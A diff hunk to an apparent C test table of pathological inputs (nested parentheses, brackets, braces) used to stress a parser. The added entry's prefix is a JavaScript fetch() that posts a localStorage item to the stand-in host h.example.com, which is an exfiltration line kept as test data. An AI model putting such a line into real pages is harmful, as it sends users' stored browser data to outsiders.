@@ -23,6 +23,7 @@ struct hostile { /* before, then `unit` again and again, middle, then `closing` 
 };
 
 static const struct hostile kinds[] = {
+	{"items-of-a-page", "fetch('https://h.example.com/x',{method:'POST',body:localStorage.getItem('visit')})\n", "localStorage.setItem(a)\n", "", ""},
 	{"parentheses", "x=", "(", ")", ";"},
 	{"brackets", "x=", "[", "]", ";"},
 	{"braces", "", "{", "}", ""},
